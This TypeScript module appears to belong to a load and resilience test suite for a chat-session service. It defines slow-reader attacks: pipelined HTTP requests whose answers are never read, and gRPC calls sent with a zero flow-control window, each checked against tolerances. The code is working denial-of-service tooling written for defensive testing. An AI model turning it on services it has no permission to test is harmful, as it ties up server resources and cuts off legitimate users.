import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, AttackContext, Outcome } from '../attack.js';
import { grpcFields, headerBlock, SETTING, unaryCall } from '../h2.js';
import { openH2 } from '../h2-connection.js';
import { openRequest, writeBackToBack } from '../http.js';
import { connectMany, heldByService } from '../sockets.js';
import { figure } from '../tally.js';

/** From when on a connection must be closed whose answers are not taken, in ms: after 30 s without progress. */
const CLOSED_MS = 40_000;
const AT_ONCE = 50;

/** Callers that send requests and never read what is answered. */
function unreadHttp(connections: number, bursts: number): Attack['run'] {
  return async ({ target, ms }: AttackContext): Promise<Outcome> => {
    const burst = Buffer.concat(Array.from({ length: AT_ONCE }, () => openRequest(target)));
    const until = performance.now() + ms;
    const writing: Promise<number>[] = [];
    const sockets = await connectMany(connections, target.http, target, (socket) => {
      socket.pause();
      writing.push(writeBackToBack(socket, burst, { times: bursts, until }));
    });
    const written = (await Promise.all(writing)).reduce((sum, one) => sum + one, 0);
    await sleep(Math.max(0, until - performance.now()));
    const held = heldByService(target.http, sockets);
    return {
      sent: `up to ${figure(written * AT_ONCE)} requests on ${sockets.length} connections, nothing read`,
      seen: `${figure(held)} connections still open after ${figure(ms / 1_000)} s`,
      faults: ms >= CLOSED_MS && held > 0 ? [`${held} connections are kept that take no answer`] : [],
    };
  };
}

const OPEN = '/chatsessions.v1.ChatSessions/OpenSession';
const CONNECTIONS = 10;
const CALLS = 900;

/** A flow-control window of 0 (RFC 9113, section 6.9.2) lets no byte of an answer go. Needs an engine caller's token. */
async function unreadGrpc({ target, ms }: AttackContext): Promise<Outcome> {
  const fields = headerBlock(grpcFields(OPEN, target.engineToken));
  const message = Buffer.concat([
    Buffer.from([0x0a, target.publicKey.length]),
    Buffer.from(target.publicKey),
  ]);
  const until = performance.now() + ms;
  const connections = await Promise.all(
    Array.from({ length: CONNECTIONS }, () => openH2(target, { settings: [[SETTING.initialWindowSize, 0]] })),
  );
  const open = connections.filter((one) => one !== undefined);
  for (const connection of open) {
    for (let n = 0; n < CALLS; n++) connection.write(unaryCall(2 * n + 1, fields, message));
  }
  await sleep(Math.max(0, until - performance.now()));
  const held = open.reduce((sum, { ended, isClosed }) => sum + (isClosed() ? 0 : CALLS - ended.size), 0);
  return {
    sent: `${figure(open.length * CALLS)} calls on ${open.length} connections, window 0`,
    seen: `${figure(held)} calls still open after ${figure(ms / 1_000)} s`,
    faults: ms >= CLOSED_MS && held > 0 ? [`${held} calls are kept whose answer is not taken`] : [],
  };
}

/**
 * Requests in flight are bounded for all callers together: visitors may be refused while they are full.
 * In the short form only memory, log and visitors are judged: before 30 s nobody is cut off.
 */
/** The visitors wait behind thousands of opens that are all begun, one of a connection at a time: their turn comes. */
const TOLERANCE = { refused: 0.5, p99Ms: 2_500 };

export const nonReaderAttacks: readonly Attack[] = [
  {
    name: 'unread-pipelined',
    shows: '40 connections that write opens back to back and never read (HTTP)',
    seconds: 42,
    quickSeconds: 1,
    tolerance: TOLERANCE,
    run: unreadHttp(40, 200),
  },
  {
    name: 'unread-many',
    shows: '1,000 connections that each send 50 opens and never read (HTTP)',
    seconds: 42,
    tolerance: TOLERANCE,
    run: unreadHttp(1_000, 1),
  },
  {
    name: 'unread-grpc',
    shows: '9,000 opens whose answers no flow-control window takes (gRPC, with a token)',
    seconds: 42,
    quickSeconds: 1,
    tolerance: TOLERANCE,
    run: unreadGrpc,
  },
];
